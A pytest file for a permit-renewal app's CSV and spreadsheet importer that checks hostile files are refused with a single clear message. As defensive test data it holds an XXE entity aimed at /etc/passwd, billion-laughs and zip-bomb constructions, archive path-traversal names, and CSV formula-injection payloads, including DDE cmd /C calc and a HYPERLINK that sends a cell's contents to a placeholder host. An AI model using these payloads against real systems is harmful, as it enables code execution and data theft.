"""A file that was made to harm ends in one clear line: nothing crashes, nothing swells, nothing runs."""

import csv
import os
import zipfile
from collections import deque
from collections.abc import Callable
from pathlib import Path

import pytest

from renewal.language.sheets import as_given, inert
from renewal.services.appointments.centre_rows import CentresRefused, read_centres
from renewal.services.importing import (
    ImportRefused,
    ImportResult,
    csv_source,
    files,
    import_holders,
    sheet_reader,
    sheet_source,
)
from renewal.services.importing.checking import Problem
from renewal.services.importing.holder_kind import HOLDERS as HOLDER_KIND
from renewal.services.importing.layout import lay_out
from renewal.services.importing.rejects import Rejects
from renewal.services.importing.sources import open_source
from renewal.services.renewals import visits
from renewal.store.models import Holder
from tests.services.importing_files import HOLDERS, ROW, row, rows_of
from tests.services.sheets import XLSX, write_ods, write_xlsx

pytestmark = pytest.mark.parametrize("database_kind", ["sqlite"])  # what is settled before the store is asked
SMALL_MEMORY = 512 << 20
SHEET = "xl/worksheets/sheet1.xml"
SHEET_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
ID_NUMBER = "11010519491231002X"
DOCTYPE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
BILLION = (
    '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>'
)


def _sheet(rows: str, before: str = "", prologue: str = "") -> str:
    return f'{prologue}<worksheet xmlns="{SHEET_NS}">{before}<sheetData>{rows}</sheetData></worksheet>'


def _text(at: str, text: str) -> str:
    return f'<c r="{at}" t="inlineStr"><is><t>{text}</t></is></c>'


def _book(path: Path, parts: dict[str, str | bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in ({**XLSX, SHEET: _sheet("")} | parts).items():
            archive.writestr(name, content)
    return path


def _refused(path: Path) -> str:
    """The one line that refuses the file before a row of it is loaded."""
    with pytest.raises(ImportRefused) as refusal:
        lay_out(HOLDER_KIND, open_source(str(path)).headings())
    told = str(refusal.value)
    assert told.isprintable()
    assert len(told) < 1500
    return told


@pytest.fixture(autouse=True)
def _named(database_kind: str) -> None:
    """Every test has the database of the mark above, also one that opens none."""


@pytest.fixture
def small_memory(monkeypatch: pytest.MonkeyPatch) -> None:
    """A reader that may take less than usual, so that the test does not."""
    monkeypatch.setattr(sheet_source, "MOST_MEMORY_BYTES", SMALL_MEMORY)


FAR_CELLS = ("XFD1048576", "XFD2", "ZZ1048576", "AAA1000000", "IW1048576", "ABC900000")


@pytest.mark.parametrize("far", FAR_CELLS)
@pytest.mark.parametrize("told", ["", "A1:B2", "A1:XFD1048576"])
def test_two_cells_far_apart_do_not_end_the_process(
    tmp_path: Path, small_memory, far: str, told: str
) -> None:
    digits = far.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")
    before = f'<dimension ref="{told}"/>' if told else ""
    cells = f'<row r="1">{_text("A1", "permit_no")}</row><row r="{digits}">{_text(far, "x")}</row>'
    book = _book(tmp_path / "far.xlsx", {SHEET: _sheet(cells, before)})
    assert book.stat().st_size < 3000
    told_line = _refused(book)
    assert "太大" in told_line or "列太多" in told_line


@pytest.mark.parametrize(
    "part", [SHEET, "xl/sharedStrings.xml", "xl/styles.xml", "xl/media/x.bin", "docProps/app.xml"]
)
def test_a_small_file_that_unpacks_to_much_is_not_unpacked(tmp_path: Path, small_memory, part: str) -> None:
    book = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(book, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in XLSX.items():
            if name != part:
                archive.writestr(name, content)
        with archive.open(part, "w") as opened:
            for _ in range(24):
                opened.write(b" " * (1 << 20))
    assert book.stat().st_size < 100_000
    assert "太大" in _refused(book)


def test_a_text_that_every_cell_shares_does_not_swell_in_memory(tmp_path: Path, small_memory) -> None:
    """One long text, referred to by many cells, is small in the file and large in memory."""
    shared = f'<sst xmlns="{SHEET_NS}" uniqueCount="1"><si><t>{"甲" * 32_000}</t></si></sst>'
    content = XLSX["[Content_Types].xml"].replace(
        "</Types>",
        '<Override PartName="/xl/sharedStrings.xml"'
        ' ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
    )
    rels = XLSX["xl/_rels/workbook.xml.rels"].replace(
        "</Relationships>",
        '<Relationship Id="rId9" Target="sharedStrings.xml"'
        ' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"/></Relationships>',
    )
    rows = f'<row r="1">{_text("A1", "name")}</row>'
    rows += "".join(f'<row r="{n}"><c t="s"><v>0</v></c></row>' for n in range(2, 600))
    parts = {"[Content_Types].xml": content, "xl/_rels/workbook.xml.rels": rels}
    book = _book(tmp_path / "shared.xlsx", parts | {"xl/sharedStrings.xml": shared, SHEET: _sheet(rows)})
    with pytest.raises(ImportRefused, match="超长"):
        deque(open_source(str(book)).rows(), maxlen=0)


@pytest.mark.parametrize("count", ["99999999", "18446744073709551615", "9" * 40])
def test_a_count_of_shared_texts_that_cannot_be_is_not_believed(tmp_path: Path, count: str) -> None:
    shared = f'<sst xmlns="{SHEET_NS}" uniqueCount="{count}"><si><t>x</t></si></sst>'
    assert "太大" in _refused(_book(tmp_path / "count.xlsx", {"xl/sharedStrings.xml": shared}))


@pytest.mark.parametrize(
    "ref", ["A1:XFD1", "A1:XFD1048576", "A1:IW9", "XFD1048576", "A1:ZZZZZZZZ1", "A1:$XFD$9"]
)
def test_a_sheet_that_says_it_is_too_wide_is_refused_by_its_word(tmp_path: Path, ref: str) -> None:
    book = _book(tmp_path / "wide.xlsx", {SHEET: _sheet("", f'<dimension ref="{ref}"/>')})
    assert "列太多" in _refused(book)


@pytest.mark.parametrize(
    "part", [SHEET, "xl/workbook.xml", "xl/styles.xml", "[Content_Types].xml", "_rels/.rels"]
)
@pytest.mark.parametrize(
    "declared", [DOCTYPE, BILLION, "<!DOCTYPE x>", f"<?xml version='1.0'?><!-- x -->{DOCTYPE}"]
)
def test_a_workbook_that_declares_entities_is_not_parsed(tmp_path: Path, part: str, declared: str) -> None:
    content = ({SHEET: _sheet("")} | XLSX)[part]
    assert "不该有的东西" in _refused(_book(tmp_path / "entity.xlsx", {part: declared + content}))


@pytest.mark.parametrize(
    "name", ["../x", "a/../../x", "/etc/x", "..", "a\\..\\x", "C:x", "xl/../../../../tmp/x", "//host/x"]
)
def test_a_part_that_points_out_of_the_workbook_is_not_read(tmp_path: Path, name: str) -> None:
    assert "不该有的东西" in _refused(_book(tmp_path / "slip.xlsx", {name: "x"}))
    assert not (tmp_path.parent / "x").exists()


@pytest.mark.parametrize("part", ["xl/vbaProject.bin", "xl/vbaProjectSignature.bin", "VBAPROJECT.BIN"])
@pytest.mark.parametrize("suffix", ["xlsx", "xlsm"])
def test_a_workbook_with_macros_is_refused(tmp_path: Path, suffix: str, part: str) -> None:
    assert "宏" in _refused(_book(tmp_path / f"macro.{suffix}", {part: "x"}))


def test_a_workbook_without_macros_may_be_called_xlsm(services, tmp_path: Path) -> None:
    book = write_xlsx(tmp_path / "plain.xlsm", [HOLDERS.split(","), ROW.split(",")])
    assert import_holders(services, str(book)) == ImportResult(added=1)


def _encrypted_zip(path: Path) -> None:
    book = _book(path, {}).read_bytes()
    marked = bytearray(book)
    at = 0
    while (at := marked.find(b"PK\x01\x02", at)) >= 0:
        marked[at + 8] |= 1
        at += 4
    path.write_bytes(bytes(marked))


LOCKED = sheet_reader.OLE + b"\0" * 1024 + sheet_reader.ENCRYPTED + b"\0" * 512


@pytest.mark.parametrize(
    ("name", "content", "said"),
    [
        ("locked.xlsx", LOCKED, "密码"),
        ("locked.ods", LOCKED, "密码"),
        ("old.xlsx", sheet_reader.OLE + b"\0" * 4096, "改了文件名"),
        ("old.ods", sheet_reader.OLE + b"\0" * 4096, "改了文件名"),
        ("old.xlsm", sheet_reader.OLE + b"\0" * 4096, "改了文件名"),
        ("broken.xls", sheet_reader.OLE + b"\xff" * 4096, "打不开这个表格文件"),
        ("empty.xlsx", b"", "打不开这个表格文件"),
        ("empty.xls", b"", "打不开这个表格文件"),
        ("short.xlsx", b"PK\x03\x04", "打不开这个表格文件"),
        ("random.xlsx", bytes(range(256)) * 40, "打不开这个表格文件"),
        ("page.xls", b"<html><table><tr><td>=1", "打不开这个表格文件"),
        ("script.ods", b"#!/bin/sh\nexit 1\n", "打不开这个表格文件"),
        ("text.xlsx", HOLDERS.encode(), "打不开这个表格文件"),
    ],
)
def test_what_is_no_workbook_of_its_name_is_one_clear_line(
    tmp_path: Path, name: str, content: bytes, said: str
) -> None:
    (tmp_path / name).write_bytes(content)
    assert said in _refused(tmp_path / name)


def test_a_workbook_under_the_old_ending_and_one_with_a_password_are_told_apart(tmp_path: Path) -> None:
    assert "改了文件名" in _refused(_book(tmp_path / "new.xls", {}))
    _encrypted_zip(tmp_path / "locked.xlsx")
    assert "密码" in _refused(tmp_path / "locked.xlsx")


@pytest.mark.parametrize("kept", [0.1, 0.3, 0.5, 0.7, 0.9, 0.99])
def test_a_workbook_that_was_cut_short_is_one_clear_line(tmp_path: Path, kept: float) -> None:
    book = write_xlsx(tmp_path / "cut.xlsx", [HOLDERS.split(","), ROW.split(",")])
    whole = book.read_bytes()
    book.write_bytes(whole[: int(len(whole) * kept)])
    assert "打不开这个表格文件" in _refused(book)


@pytest.mark.parametrize(
    "xml", ["<", "<worksheet", "</worksheet>", "\x1b[2J", "<worksheet><sheetData><row><c><v>1"]
)
def test_a_sheet_of_broken_markup_never_writes_to_the_terminal_what_it_says(tmp_path: Path, xml: str) -> None:
    assert _refused(_book(tmp_path / "markup.xlsx", {SHEET: xml}))


def test_a_reader_that_is_killed_is_one_clear_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    killed = tmp_path / "reader.py"
    killed.write_text("import os, signal; os.kill(os.getpid(), signal.SIGKILL)\n", "utf-8")
    monkeypatch.setattr(sheet_source, "READER", killed)
    book = write_xlsx(tmp_path / "file.xlsx", [HOLDERS.split(","), ROW.split(",")])
    assert "太大" in _refused(book)


def test_the_reader_of_sheets_is_given_no_secret(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    seen, reader = tmp_path / "seen", tmp_path / "reader.py"
    reader.write_text(f"import os; open({str(seen)!r}, 'w').write(repr(dict(os.environ)))\n", "utf-8")
    monkeypatch.setenv("RENEWAL_DATA_KEYS", "a-secret")
    monkeypatch.setattr(sheet_source, "READER", reader)
    _refused(write_xlsx(tmp_path / "file.xlsx", [HOLDERS.split(",")]))
    assert "secret" not in seen.read_text("utf-8")


def test_a_cell_longer_than_any_sheet_program_keeps_is_a_rejected_row(services, tmp_path: Path) -> None:
    long = ROW.replace("样例甲", "甲" * 200_000).split(",")
    book = write_xlsx(
        tmp_path / "long.xlsx", [HOLDERS.split(","), ROW.split(","), row("P-2", ",".join(long)).split(",")]
    )
    result = import_holders(services, str(book))
    assert (result.added, result.rejected) == (1, 1)


def test_an_ods_of_endless_repeated_rows_does_not_swell(tmp_path: Path, small_memory) -> None:
    book = write_ods(tmp_path / "many.ods", [HOLDERS.split(",")])
    with zipfile.ZipFile(book) as archive:
        parts = {name: archive.read(name).decode() for name in archive.namelist()}
    cell = '<table:table-cell table:number-columns-repeated="16384" office:value-type="string"><text:p>x</text:p>'
    many = (
        f'<table:table-row table:number-rows-repeated="1048576">{cell}</table:table-cell></table:table-row>'
    )
    parts["content.xml"] = parts["content.xml"].replace("</table:table>", f"{many}</table:table>")
    with zipfile.ZipFile(book, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    told = _refused(book)
    assert told


# ---- files that are none


def _link(path: Path) -> None:
    target = path.with_name(f"real{path.suffix}")
    target.write_text(f"{HOLDERS}\n{ROW}\n", "utf-8")
    path.symlink_to(target)


NO_FILES: dict[str, Callable[[Path], object]] = {
    "a link": _link,
    "a link to a device": lambda path: path.symlink_to("/dev/zero"),
    "a link to nothing": lambda path: path.symlink_to("nothing"),
    "a link to itself": lambda path: path.symlink_to(path.name),
    "a pipe": os.mkfifo,
    "a folder": os.mkdir,
}


@pytest.mark.parametrize("kind", NO_FILES)
@pytest.mark.parametrize("suffix", ["csv", "txt", "xlsx", "xls", "ods"])
def test_what_is_no_plain_file_is_not_opened_and_not_waited_for(
    tmp_path: Path, kind: str, suffix: str
) -> None:
    path = tmp_path / f"file.{suffix}"
    NO_FILES[kind](path)
    told = _refused(path)
    assert "链接" in told or "打不开文件" in told


@pytest.mark.parametrize("kind", NO_FILES)
def test_the_file_of_centres_is_a_plain_file_as_well(tmp_path: Path, kind: str) -> None:
    NO_FILES[kind](tmp_path / "centres.csv")
    with pytest.raises(CentresRefused) as refusal:
        read_centres(tmp_path / "centres.csv")
    assert "\n" not in str(refusal.value)


@pytest.mark.parametrize(("suffix", "bound"), [("csv", "MOST_CSV_BYTES"), ("xlsx", "MOST_SHEET_BYTES")])
def test_a_file_larger_than_any_of_ours_is_not_read(tmp_path: Path, suffix: str, bound: str) -> None:
    path = tmp_path / f"huge.{suffix}"
    with path.open("wb") as file:
        file.truncate(getattr(files, bound) + 1)  # it takes no room on disk
    assert "太大" in _refused(path)


def test_rejects_are_not_written_through_a_link(services, tmp_path: Path) -> None:
    """A link that waits under the name of the reject file does not lead an import to another file."""
    victim = tmp_path / "victim"
    victim.write_bytes(b"")
    path = tmp_path / "file.csv"
    path.write_text(f"{HOLDERS}\n{ROW.replace('2026-12-05', '')}\n", "utf-8")
    (tmp_path / "file.csv.rejects.csv.part").symlink_to(victim)
    with pytest.raises(ImportRefused, match="没法写退回的行"):
        import_holders(services, str(path))
    assert victim.read_bytes() == b""


@pytest.mark.parametrize("name", ["far.xlsx", "file.csv"])
def test_an_import_that_is_refused_leaves_the_store_and_the_folder_as_they_were(
    services, tmp_path: Path, small_memory, name: str
) -> None:
    path = tmp_path / name
    if name == "file.csv":
        path.write_bytes(b"\0")
    else:
        _book(
            path,
            {
                SHEET: _sheet(
                    f'<row r="1">{_text("A1", "x")}</row><row r="9">{_text("XFD1048576", "x")}</row>'
                )
            },
        )
    with pytest.raises(ImportRefused):
        import_holders(services, str(path))
    assert rows_of(services.store, Holder) == 0
    assert [found.name for found in tmp_path.iterdir() if found.is_file()] == [name]


# ---- texts that are no CSV


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (f"{HOLDERS}\n{ROW}\n".encode("utf-16-le"), "NUL"),
        (f"{HOLDERS}\n{ROW}\n".encode("utf-16"), "编码"),
        (f"{HOLDERS}\n{ROW}\n".encode("utf-32-le"), "NUL"),
        (f"{HOLDERS}\n{ROW}\0\n".encode(), "NUL"),
        (b"\0" * 4096, "NUL"),
        (f"{HOLDERS}\n".encode() + b"\xff\xff\xff\n", "编码"),
        (f"{HOLDERS}\n".encode() + b"\xed\xa0\x80\xff\n", "编码"),
        (f'{HOLDERS}\n"{ROW}\n'.encode(), "引号"),
        (b"a" * (5 << 20), "MB"),
        (f"{HOLDERS}\n".encode() + b"x" * (6 << 20), "MB"),
        (f"{HOLDERS}\r".encode() + b"," * (6 << 20), "MB"),
        (b"," * 300, "列太多"),
        (b";" * 100_000, "列太多"),
        (b"\x1b[2J\x1b]0;x\x07,b\n", "列名不对"),
        ("\u202eabc,b\n".encode(), "列名不对"),
    ],
)
def test_a_text_that_is_no_csv_of_ours_is_one_clear_line(tmp_path: Path, content: bytes, said: str) -> None:
    path = tmp_path / "file.csv"
    path.write_bytes(content)
    assert said in _refused(path)


def test_many_rows_that_are_each_very_long_end_the_import_before_they_fill_the_memory(
    services, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(csv_source, "MOST_LONG_CHARS", 1 << 20)
    long = ROW.replace("样例甲", "甲" * 100_000)
    path = tmp_path / "file.csv"
    path.write_text("\n".join([HOLDERS, *[long] * 20]), "utf-8")
    with pytest.raises(ImportRefused, match="超长"):
        import_holders(services, str(path))


@pytest.mark.parametrize("repeated", [b"\n", b"a\n", b'\n","', b",\n", b'""\n', b"\r", b"\r\n"])
def test_a_row_that_goes_on_over_lines_without_end_is_not_gathered(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, repeated: bytes
) -> None:
    monkeypatch.setattr(csv_source, "MOST_ROW_CHARS", 1 << 16)
    path = tmp_path / "file.csv"
    path.write_bytes(b'"' + repeated * (1 << 17) + b'"')
    assert "超长" in _refused(path)


# ---- cells that a spreadsheet program would run

FORMULAS = [
    *("=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "=", "+", "-", "@"),
    *("＝1+1", "＋1", "－1", "＠SUM(1)", "﹦1", "﹢1", "﹣1", "﹫x", "−1"),
    *("=cmd|'/c calc'!A0", '=HYPERLINK("http://example.invalid/?x="&A1,"x")', "=IMPORTXML(A1,B1)"),
    *("=WEBSERVICE(A1)", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"),
    *(" =1", "  +1", "\u00a0=1", "\u3000＝1", "\u200b=1", "\ufeff=1", "\u202e=1", "\x00=1", "\x0b=1", "\u2028=1"),
    *('=DDE("cmd";"/C calc";"x")', "=1\n=2", "+86 199 0002 0001", "-", '="a"&"b"'),
]  # fmt: skip


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_rejected_cell_is_no_formula_where_staff_open_it(tmp_path: Path, formula: str) -> None:
    """A stranger's cell cannot run in the spreadsheet program of the staff member who corrects the rejected rows."""
    path = tmp_path / "file.rejects.csv"
    problem = Problem(line=2, columns=("name",), reasons=(formula,))
    with Rejects(path, ["name", "phone"]) as rejects:
        rejects.add([formula, formula, formula], problem)
    with path.open(encoding="utf-8-sig", newline="") as file:
        _, written = csv.reader(file)
    assert not {_first_seen(cell) for cell in written} & set("=+-@\t\r\n＝＋－＠")
    assert written.count(f"'{formula}") == 4


def _first_seen(cell: str) -> str:
    return cell.strip()[:1]


@pytest.mark.parametrize("cell", FORMULAS)
def test_what_stands_behind_an_apostrophe_is_read_again_as_it_was(cell: str) -> None:
    assert inert(cell) == f"'{cell}"
    assert as_given(inert(cell)) == cell
    assert inert(inert(cell)) == inert(cell)


@pytest.mark.parametrize(
    "cell", ["", "甲", "1-2", "A=1", "徐汇区样例路1号", "'", "''", "（一）", "a@b", "2026-12-05"]
)
def test_a_cell_that_is_no_formula_is_written_as_it_is(cell: str) -> None:
    assert inert(cell) == as_given(cell) == cell


def test_a_rejected_phone_with_its_country_code_can_be_imported_again(services, tmp_path: Path) -> None:
    path = tmp_path / "file.csv"
    line = ROW.replace("19900020001", "+8619900020001")
    path.write_text(f"{HOLDERS}\n{line.replace('2026-12-05', 'soon')}\n", "utf-8")
    rejects = import_holders(services, str(path)).rejects
    assert rejects is not None
    text = rejects.read_text("utf-8-sig")
    assert "'+8619900020001" in text
    rejects.write_text(text.replace("soon", "2026-12-05"), "utf-8-sig")
    assert import_holders(services, str(rejects)) == ImportResult(added=1)


# ---- ID numbers that come as a permit's


ID_NUMBERS = [
    *(ID_NUMBER, ID_NUMBER.lower(), "１１０１０５１９４９１２３１００２Ｘ", f" {ID_NUMBER} "),
    *("110105-19491231-002X", "310115199001011234", "3101151990-0101-1234", "310115-19900101-1234"),
]


@pytest.mark.parametrize("number", ID_NUMBERS)
def test_an_id_number_is_not_kept_as_a_permits_number(services, tmp_path: Path, number: str) -> None:
    path = tmp_path / "file.csv"
    path.write_text(f"{HOLDERS}\n{row(number)}\n{row('P-2')}\n", "utf-8")
    result = import_holders(services, str(path))
    assert (result.added, result.rejected) == (1, 1)
    assert result.rejects is not None
    assert "身份证号" in result.rejects.read_text("utf-8-sig")


@pytest.mark.parametrize("number", ID_NUMBERS)
def test_no_command_takes_an_id_number_for_a_permits(services, number: str) -> None:
    with pytest.raises(visits.VisitRefused, match="身份证号"):
        visits.record_visit(
            services,
            number=number,
            visited_on=services.today(),
            way=visits.VisitWay.CALL,
            finding=visits.VisitFinding.CONFIRMED,
            renewed=False,
            actor="staff",
        )
